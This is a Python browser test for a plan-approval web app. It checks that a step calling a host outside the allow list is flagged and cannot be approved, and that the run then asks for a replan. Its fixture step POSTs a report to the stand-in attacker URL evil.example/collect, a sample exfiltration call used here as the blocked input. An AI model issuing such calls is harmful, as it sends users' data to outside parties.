"""A call that will be refused, in the browser (issue 25, item 3): the editor paints
``host_not_allowed`` on the step with the setting to change, and a step whose resolved
URL names such a host shows why it cannot run, with no way to approve it, in the review
queue and on the run page. Screenshots go to test-artifacts/e2e/<test>/."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from forge.plan import from_data
from plans import services as plan_services
from runs import services
from tests.web.runs_helpers import drain

from .conftest import shoot
from .graph import classes, problems, wait_compiled, wait_ready

pytestmark = pytest.mark.django_db(transaction=True)

SEND = {
    "id": "send",
    "description": "Send the report to the purchasing service",
    "tool": "http_request",
    "args": {"method": "POST", "url": "https://evil.example/collect", "body": {"ok": True}},
    "done_when": {"required_keys": ["status"]},
    "rollback_hint": "Ask purchasing to delete it",
}
FIND = {
    "id": "find",
    "description": "Find the purchasing endpoint",
    "tool": "echo",
    "args": {"url": "https://evil.example/collect"},
    "done_when": {"required_keys": ["url"]},
}
REASON = "host 'evil.example' (port 443) is not on the allow list"


@pytest.fixture(autouse=True)
def _deployment(settings, tmp_path):
    settings.FORGE_HTTP_ALLOWED_HOSTS = ["api.example.com"]
    settings.FORGE_WORKSPACES = str(tmp_path / "workspaces")


def test_the_editor_paints_a_refused_host_on_its_step_with_the_setting_to_change(page, people):
    ada = people.make("ada", "author")
    version = plan_services.create_plan(
        ada, "Report to purchasing", from_data({"goal": "Report", "steps": [FIND, SEND]})
    )
    assert version.has_errors
    people.login(page, ada)

    page.goto(f"/plans/{version.plan_id}/edit/")
    wait_ready(page)
    wait_compiled(page)

    assert ("host_not_allowed", "send") in problems(page)
    item = page.locator("#problems li.problem[data-code=host_not_allowed]")
    expect(item).to_have_attribute("data-severity", "error")
    expect(item.locator(".problem-message")).to_contain_text(REASON)
    expect(item.locator(".problem-hint")).to_contain_text(
        "add evil.example (any port) or evil.example:443 to FORGE_HTTP_ALLOWED_HOSTS"
    )
    assert {"error", "d-host_not_allowed"} <= set(classes(page, "send"))
    assert "d-host_not_allowed" not in classes(page, "find")
    expect(page.locator("#approve-button")).to_be_disabled()
    item.click()
    shoot(page, "1-host-refused-on-the-graph")


def test_a_refused_call_shows_why_and_offers_no_approval_in_the_queue_and_on_the_run_page(
    page, people
):
    ada = people.make("ada", "author", "operator")
    grace = people.make("grace", "approver")
    send = {**SEND, "depends_on": ["find"]}
    send["args"] = {**SEND["args"], "url": {"$from": "find", "path": "url"}}
    version = plan_services.create_plan(
        ada, "Report to purchasing", from_data({"goal": "Report", "steps": [FIND, send]})
    )
    assert not version.has_errors, version.diagnostics  # the URL is known only when it runs
    plan_services.approve(version, grace, "reads, then reports")
    run = services.start_run(version, ada)
    drain()
    people.login(page, grace)

    # The queue card says it will be refused and what to change; there is no approval.
    page.goto("/review/")
    page.wait_for_selector("#review-page[data-state=ready]")
    card = page.locator(f"article[data-key='step-{run.pk}-send']")
    refused = card.locator(".preview-refused")
    expect(refused).to_contain_text(f"It will be refused: {REASON}")
    expect(refused).to_contain_text("To let it run: add evil.example")
    expect(refused).to_contain_text("cannot be approved")
    expect(card.get_by_role("button", name="Approve this call")).to_have_count(0)
    expect(card.get_by_role("button", name="Reject")).to_be_visible()
    card.scroll_into_view_if_needed()
    shoot(page, "1-queue-card")

    # The run page: the person panel and the step's drawer say the same, without Approve.
    page.goto(f"/runs/{run.pk}/")
    page.wait_for_selector("#run-page[data-state=ready]")
    expect(page.locator("#attention")).to_contain_text(
        "Step 'send' cannot be approved: its call will be refused; an approver who did not "
        "write this version may reject it to replan"
    )
    person = page.locator("#people-list li[data-step=send]")
    expect(person.locator(".preview-refused")).to_contain_text(REASON)
    person.locator("[data-open-step=send]").click()
    drawer = page.locator("#step-drawer .drawer-action.waiting")
    expect(drawer.locator(".preview-refused")).to_contain_text(f"It will be refused: {REASON}")
    expect(drawer.locator(".preview-refused")).to_contain_text("FORGE_HTTP_ALLOWED_HOSTS")
    expect(page.locator("#approve-step")).to_have_count(0)
    expect(page.locator("#reject-step")).to_be_visible()
    shoot(page, "2-run-page-drawer")

    # Rejecting it is what is left: the run asks for a replan.
    page.fill("#approval-comment", "Not our host")
    page.click("#reject-step")
    expect(page.locator("#run-page")).to_have_attribute("data-status", "needs_replan")
